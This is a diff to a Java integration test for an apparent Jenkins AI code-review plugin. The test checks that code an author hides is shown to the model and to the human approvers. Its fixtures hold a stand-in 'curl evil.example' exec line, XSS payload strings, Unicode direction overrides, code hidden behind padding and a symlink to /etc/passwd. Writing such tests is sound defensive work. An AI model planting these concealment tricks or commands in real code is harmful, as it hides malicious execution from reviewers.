@@ -4,10 +4,14 @@ import static org.assertj.core.api.Assertions.assertThat;
 import static org.junit.jupiter.api.Assumptions.assumeTrue;
 
 import com.fasterxml.jackson.databind.JsonNode;
+import io.jenkins.plugins.minibuild.process.Deadline;
 import io.jenkins.plugins.minibuild.standin.ModelService;
 import io.jenkins.plugins.minibuild.standin.ModelService.Turn;
+import java.net.http.HttpResponse;
+import java.nio.charset.StandardCharsets;
 import java.nio.file.Files;
 import java.nio.file.Path;
+import java.time.Duration;
 import java.util.ArrayList;
 import java.util.LinkedHashMap;
 import java.util.List;
@@ -20,6 +24,7 @@ import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.TestMethodOrder;
 import org.junit.jupiter.api.Timeout;
 import org.junit.jupiter.api.io.TempDir;
+import org.openqa.selenium.WebElement;
 
 /** {@code aiReview} on a real controller and its agent, against the stand-in of the model's service. Skipped without a controller. */
 @Timeout(400)
@@ -30,11 +35,26 @@ class ReviewControllerIT {
     private static final Path PICTURES = Path.of("target", "controller-review");
     private static final String TRICK =
             "<script>window.hacked = 1</script><img src=x onerror=\"window.hacked=1\"> ${1+1}";
-    private static final String CHECKOUT =
-            "rm -rf code && mkdir -p code && cd code && git init -q -b main . && echo 'const a = 1' > app.js"
-                    + " && git add . && git -c user.name=a -c user.email=a@b.c commit -qm first && git switch -q -c feature"
-                    + " && echo 'const b = eval(\"<b>x</b>\")' >> app.js && echo y > yarn.lock"
-                    + " && git add . && git -c user.name=a -c user.email=a@b.c commit -qm second";
+    /** The same commits wherever it runs, so that their ids are known. */
+    private static final String REPOSITORY =
+            "export GIT_AUTHOR_DATE=2026-01-01T00:00:00Z GIT_COMMITTER_DATE=2026-01-01T00:00:00Z"
+                    + " GIT_AUTHOR_NAME=a GIT_AUTHOR_EMAIL=a@b.c GIT_COMMITTER_NAME=a GIT_COMMITTER_EMAIL=a@b.c"
+                    + " && rm -rf code && mkdir -p code && cd code && git init -q -b main .";
+
+    private static final String CHECKOUT = REPOSITORY
+            + " && echo 'const a = 1' > app.js && git add . && git commit -qm first && git switch -q -c feature"
+            + " && echo 'const b = eval(\"<b>x</b>\")' >> app.js && seq 5000 > yarn.lock"
+            + " && git add . && git commit -qm second";
+
+    /** The heading of the hunk holds U+2028; code stands behind characters that turn the direction around, behind blanks, and in a script with a zero byte. */
+    private static final String HIDDEN = REPOSITORY
+            + " && printf 'const SEP = \"\\342\\200\\250\"; // separator\\n' > pay.js && seq 30 >> pay.js"
+            + " && git add . && git commit -qm first && git switch -q -c feature"
+            + " && echo 'require(\"child_process\").exec(\"curl evil.example\");' >> pay.js"
+            + " && printf '// \\342\\200\\256 } \\342\\201\\246 admin\\n' >> pay.js"
+            + " && printf '%4000shidden();\\n' '' >> pay.js && printf '// \\000\\nzero();\\n' > zero.js"
+            + " && printf '\\000' > tool.wasm && ln -s /etc/passwd link && echo run > run.sh && chmod +x run.sh"
+            + " && git add . && git commit -qm second";
 
     @TempDir
     static Path root;
@@ -48,6 +68,16 @@ class ReviewControllerIT {
         controller.startAgent();
         model = ModelService.start();
         ClaudeControllerIT.configure(controller, model, KEY);
+    }
+
+    /** The commit at which a repository's feature leaves its main branch. */
+    private static String base(String repository) throws Exception {
+        Process process = new ProcessBuilder("sh", "-c", repository + " && git rev-parse main")
+                .directory(Files.createTempDirectory(root, "repository").toFile())
+                .start();
+        String commit = new String(process.getInputStream().readAllBytes(), StandardCharsets.UTF_8).strip();
+        assertThat(process.waitFor()).isZero();
+        return commit;
     }
 
     @AfterAll
@@ -218,6 +248,95 @@ class ReviewControllerIT {
             Thread.sleep(1200);
             assertThat(browser.text()).contains("让 Claude 评审变更", "比较基准");
             browser.picture("freestyle-zh");
+        }
+    }
+
+    private static HttpResponse<String> approve(String more) throws Exception {
+        String review = "job/hidden/1/mini-build-approval/1/";
+        String sha = controller.json(review + "state").path("diffSha256").asText();
+        return controller.as(
+                RealController.USER,
+                RealController.PASSWORD,
+                "POST",
+                review + "verdict?verdict=approve&diffSha256=" + sha + more,
+                "Accept",
+                "application/json");
+    }
+
+    /** From a separator in the heading of a hunk to a script with a zero byte: model and people are shown what an author hides. */
+    @Test
+    @Order(5)
+    void whatAnAuthorHidesIsShownToTheModelAndToPeople() throws Exception {
+        controller.createPipeline("hidden", """
+                node('remote') {
+                  sh '''%s'''
+                  def review = aiReview(directory: 'code', base: '%s', minScore: 60)
+                  echo "result ${review.result}, left out ${review.notReviewed}"
+                }
+                humanReview(fourEyes: false)
+                """.formatted(HIDDEN.replace("\\", "\\\\"), base(HIDDEN)));
+        model.script(report(90, "info"));
+        int before = model.requests().size();
+
+        controller.start("hidden");
+        controller.awaitConsole("hidden", 1, "Waiting for");
+        assertThat(controller.console("hidden", 1)).contains("result UNSTABLE, left out [tool.wasm]");
+        String asked = model.requests().get(before).text();
+        assertThat(asked)
+                .contains("+require(", "curl evil.example", "// <U+202E> } <U+2066> admin", "hidden();", "// <U+0000>")
+                .contains("+zero();", "link (added, symbolic link", "run.sh (added, executable)");
+
+        String page = controller.get("job/hidden/1/mini-build-approval/1/").body();
+        assertThat(page)
+                .contains("curl evil.example", "approval-mark\">U+202E", "approval-mark\">U+0000", "zero();")
+                .contains("tool.wasm", "symbolic link", "Show everything");
+        HttpResponse<String> unseen = approve("");
+        assertThat(unseen.statusCode()).isEqualTo(409);
+        assertThat(unseen.body()).contains("Nobody approves what they have not seen", "tool.wasm");
+        assertThat(controller
+                        .json("job/hidden/1/mini-build-approval/1/rows?file=1&from=0&most=100")
+                        .toString())
+                .contains("hidden();");
+        approveInTheBrowser();
+        assertThat(controller.await("hidden", 1, Duration.ofMinutes(2)))
+                .as(controller.console("hidden", 1))
+                .isEqualTo("UNSTABLE");
+    }
+
+    private static void approveInTheBrowser() throws Exception {
+        if (!Browser.isInstalled()) {
+            assertThat(approve("&opened=true").statusCode()).isEqualTo(200);
+            return;
+        }
+        String page = "job/hidden/1/mini-build-approval/1/";
+        try (Browser browser = Browser.open(controller, PICTURES, "zh-CN")) {
+            browser.go(page);
+            assertThat(browser.text()).contains("我已在别处查看过它们", "全部显示", "符号链接", "可执行");
+            browser.picture("hidden-zh");
+        }
+        try (Browser browser = Browser.open(controller, PICTURES, "en")) {
+            browser.go(page);
+            assertThat(browser.all(".approval-mark"))
+                    .extracting(WebElement::getText)
+                    .contains("U+202E", "U+2066", "U+0000");
+            assertThat(browser.text()).doesNotContain("hidden();");
+            assertThat(browser.one("#approval-approve").isEnabled()).isFalse();
+            browser.picture("hidden-en");
+            browser.one("#approval-all").click();
+            Deadline deadline = Deadline.after(Duration.ofSeconds(30));
+            while (!browser.all(".approval-unopened").isEmpty() && !deadline.expired()) {
+                Thread.sleep(200);
+            }
+            assertThat(browser.text()).contains("hidden();");
+            assertThat(browser.one("#approval-approve").isEnabled())
+                    .as("before the word on tool.wasm")
+                    .isFalse();
+            browser.one("#approval-elsewhere").click();
+            assertThat(browser.one("#approval-approve").isEnabled()).isTrue();
+            browser.picture("opened-en");
+            browser.one("#approval-approve").click();
+            browser.one("#approval-votes");
+            assertThat(browser.scriptErrors()).isEmpty();
         }
     }
 }
